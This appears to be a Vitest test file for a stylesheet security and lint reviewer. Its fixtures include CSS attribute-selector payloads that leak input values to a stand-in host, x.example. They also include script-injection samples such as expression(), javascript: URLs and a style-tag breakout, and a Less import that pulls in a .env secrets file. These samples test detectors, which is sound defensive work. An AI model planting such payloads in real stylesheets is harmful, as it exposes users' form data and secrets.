import { describe, expect, test } from 'vitest';
import { judgeStyleSlips } from '../../../../reviewers/quality/styles/judge-styles.ts';
import { judgeStyles } from '../../../../reviewers/security/styles/judge-styles.ts';

function said(text: string): readonly string[] {
  const { hazards, unread } = judgeStyles(text);
  return [
    ...hazards.map(({ rule, severity = '' }) => `${rule} ${severity}`.trim()),
    ...(unread.length > 0 ? ['unread'] : []),
  ];
}

const SENT = ['secret-sent-away critical'];
const RUNS = ['code-injection warning'];
const FROM = 'url(https://x.example/a)';

describe('what style sheets send, run and load', () => {
  test.each([
    [`input[value^="a"] { background: ${FROM} }`, SENT],
    ['input[value$=a] { background-image: url("//x.example/a") }', SENT],
    ['form:has(input[value^="0"]) { background: image-set("https://x.example/0" 1x) }', SENT],
    [`@each $c in a, b { input[value^="#{$c}"] { background: url("https://x.example/#{$c}") } }`, SENT],
    [`input { &[value^="a"] { background: ${FROM} } }`, SENT],
    [`input[\\76 alue^="a"] { background: url(ht\\74ps://x.example/a) }`, SENT],
    [`input[value^="a"]/**/ { background: url(/*x*/https://x.example/a) }`, SENT],
    [`meta[content*="t"] { content: ${FROM} }`, SENT],
    [`@font-face { font-family: a; src: ${FROM}; unicode-range: U+0041 }`, ['secret-sent-away warning']],
    [`:root { --x: ${FROM} } input[value^=a] { background: var(--x) }`, ['unread']],
    ['a { background: src(attr(value)) }', ['unread']],
    [`@import ${FROM};`, ['dependency-source suggestion']],
    ['@im\\70ort "//x.example/a.css" screen;', ['dependency-source suggestion']],
    ["@import 'http://x.example/a.css';", ['dependency-source warning']],
    ['a { width: \\65 xpression(alert(1)) }', RUNS],
    ['a { behavior: url(x.htc) }', RUNS],
    ['a { -moz-binding: url(x.xml#a) }', RUNS],
    ['a { background: url(javascript:alert(1)) }', RUNS],
    ['a { background: url("data:text/html,<b>") }', RUNS],
    ['@a: `process.env.HOME`;', RUNS],
    ['a { color: red } </style><script>x()</script>', ['cross-site-scripting']],
    ['@plugin "x";', ['unread']],
    ['@import (inline) "../../../../.env";', ['unread']],
    ['a { color: red', ['unread']],
  ])('%s', (text, expected) => {
    expect(said(text)).toEqual(expected);
  });
});

test.each([
  '@import url("https://fonts.googleapis.com/css2?family=Inter");',
  'input[type="text"] { background: url(/a.png) }',
  `a[href^="https://"] { background: ${FROM} }`,
  `[data-theme=dark] .a { background: url("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>") }`,
  '.a { background: url(data:image/png;base64,iVBO//Rw0KGgo=); color: #fff }',
  '@use "./a"; .b { width: calc(1px + 2em); @include c; }',
  "// Tabler's own\n.b { content: 'x' }",
])('nothing is said of %s', (text) => {
  expect(said(text)).toEqual([]);
  expect(judgeStyleSlips(text, 'a.scss')).toEqual({ hazards: [], unread: [] });
});

test.each([
  ['a { color: red !importnat }', 'ignored-declaration'],
  ['a { color: #12345 }', 'ignored-declaration'],
  ['a { color: #ggg }', 'ignored-declaration'],
  ['a { width: 10 px }', 'ignored-declaration'],
  ['a { margin: 1px 2pz }', 'ignored-declaration'],
  ['a { // x\ncolor: red }', 'ignored-declaration'],
  ['a { color: red; color: red }', 'repeated-declaration'],
])('%s', (text, rule) => {
  expect(judgeStyleSlips(text, 'a.css').hazards.map((one) => one.rule)).toEqual([rule]);
});

test.each([
  'a { color: red; color: var(--c) }',
  'a { color: red !default }',
  'a { margin: 1px 2em 1cqw }',
  'a { --x: 10 px }',
])('nothing is wrong with %s', (text) => {
  expect(judgeStyleSlips(text, 'a.scss').hazards).toEqual([]);
});
